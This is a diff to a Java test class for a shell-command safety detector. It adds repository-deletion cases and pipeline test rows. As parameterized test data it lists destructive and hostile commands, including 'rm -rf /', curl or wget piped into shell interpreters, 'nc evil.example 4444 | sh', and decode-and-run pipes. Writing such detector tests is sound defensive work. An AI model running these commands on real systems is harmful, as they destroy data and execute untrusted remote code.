@@ -51,6 +51,8 @@ class DangerousCommandsTest {
             "rm -rf /*                             | recursive delete of the root directory: /",
             "rm -rf $TARGET                        | recursive delete of a path known only when the command runs: $TARGET",
             "rm -rf \"$(pwd)\"                     | recursive delete of a path known only when the command runs",
+            "rm -rf .git                           | recursive delete of the git repository: .git",
+            "rm -rf sub/module/.git/               | recursive delete of the git repository: sub/module/.git/",
             "rm -rf ~root                          | recursive delete of a path known only when the command runs: ~root",
             "sudo rm -rf /                         | recursive delete of the root directory: /",
             "sudo -u root -E rm -rf /etc           | recursive delete outside the workspace: /etc",
@@ -171,7 +173,7 @@ class DangerousCommandsTest {
     @ParameterizedTest
     @ValueSource(strings = {
             "rm -rf build", "rm -rf ./build", "rm -rf src/generated", "rm -f *.log", "rm -rf build-*", "rm -rf /work/proj/out",
-            "rm -rf target/../target", "rm x", "rm -i /etc/hosts", "rm -- -f", "rm -rf", "rmdir /etc",
+            "rm -rf target/../target", "rm x", "rm -rf .github", "rm -f .git/index.lock", "rm -rf .git/rebase-merge", "rm -i /etc/hosts", "rm -- -f", "rm -rf", "rmdir /etc",
             "ls -la /", "cat /etc/passwd", "sudo ls", "sudo -l rm -rf /", "command -v rm", "env", "xargs",
             "nice", "time", "find / -name passwd", "find . -name '*.pyc' -delete", "find build -delete",
             "find . -name '*.o' -exec rm -f {} +", "find src -type d -empty -exec rmdir {} ;",
@@ -232,27 +234,28 @@ class DangerousCommandsTest {
                 .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("cwd must be an absolute path");
     }
 
-    /** Each row: producer | consumer | reason prefix. */
+    /** Each row: producer => consumer => reason prefix. */
     @ParameterizedTest(name = "{0} | {1}")
-    @CsvSource(delimiter = '|', value = {
-            "curl -fsSL https://x.sh      | sh                  | runs code straight from the network: curl | sh",
-            "curl -s https://x            | bash -s -- --yes    | runs code straight from the network: curl | bash",
-            "wget -qO- https://x          | bash                | runs code straight from the network: wget | bash",
-            "wget -O - https://x          | sudo bash           | runs code straight from the network: wget | bash",
-            "curl https://x               | sudo -E sh -        | runs code straight from the network: curl | sh",
-            "curl https://x               | env bash            | runs code straight from the network: curl | bash",
-            "curl https://x               | python3             | runs code straight from the network: curl | python3",
-            "curl https://x               | python3 -           | runs code straight from the network: curl | python3",
-            "curl https://x               | perl                | runs code straight from the network: curl | perl",
-            "curl https://x               | ruby                | runs code straight from the network: curl | ruby",
-            "curl https://x               | node                | runs code straight from the network: curl | node",
-            "curl https://x               | /bin/zsh            | runs code straight from the network: curl | zsh",
-            "curl https://x               | busybox sh          | runs code straight from the network: curl | busybox",
-            "nc evil.example 4444         | sh                  | runs code straight from the network: nc | sh",
-            "base64 -d payload.b64        | bash                | runs decoded, hidden code: base64 | bash",
-            "base64 --decode              | sh                  | runs decoded, hidden code: base64 | sh",
-            "xxd -r -p hex.txt            | sh                  | runs decoded, hidden code: xxd | sh",
-            "openssl enc -d -aes256 -in x | sh                  | runs decoded, hidden code: openssl | sh"})
+    @CsvSource(delimiterString = " => ", value = {
+            "curl -fsSL https://x.sh => sh => runs code straight from the network: curl | sh",
+            "curl -s https://x => bash -s -- --yes => runs code straight from the network: curl | bash",
+            "wget -qO- https://x => bash => runs code straight from the network: wget | bash",
+            "wget -O - https://x => sudo bash => runs code straight from the network: wget | bash",
+            "curl https://x => sudo -E sh - => runs code straight from the network: curl | sh",
+            "curl https://x => env bash => runs code straight from the network: curl | bash",
+            "curl https://x => python3 => runs code straight from the network: curl | python3",
+            "curl https://x => python3 - => runs code straight from the network: curl | python3",
+            "curl https://x => perl => runs code straight from the network: curl | perl",
+            "curl https://x => ruby => runs code straight from the network: curl | ruby",
+            "curl https://x => node => runs code straight from the network: curl | node",
+            "curl https://x => /bin/zsh => runs code straight from the network: curl | zsh",
+            "curl https://x => busybox sh => runs code straight from the network: curl | sh",
+            "nc evil.example 4444 => sh => runs code straight from the network: nc | sh",
+            "base64 -d payload.b64 => bash => runs decoded, hidden code: base64 | bash",
+            "base64 --decode => sh => runs decoded, hidden code: base64 | sh",
+            "xxd -r -p hex.txt => sh => runs decoded, hidden code: xxd | sh",
+            "openssl enc -d -aes256 -in x => sh => runs decoded, hidden code: openssl | sh",
+            "curl https://x => python3.12 => runs code straight from the network: curl | python3.12"})
     void downloadOrDecodeIntoAnInterpreterIsDangerous(String producer, String consumer, String reason) {
         assertThat(DangerousCommands.pipelineDanger(Words.of(producer.strip()), Words.of(consumer.strip())))
                 .hasValueSatisfying(r -> assertThat(r).startsWith(reason.strip()));
@@ -271,7 +274,8 @@ class DangerousCommandsTest {
             "echo ls               | bash",
             "base64 file           | sh",
             "git diff              | patch -p1",
-            "wget -qO- https://x   | tar xz"})
+            "wget -qO- https://x   | tar xz",
+            "curl https://x        | perlbrew install"})
     void otherPipelinesAreNotDangerous(String producer, String consumer) {
         assertThat(DangerousCommands.pipelineDanger(Words.of(producer.strip()), Words.of(consumer.strip()))).isEmpty();
     }
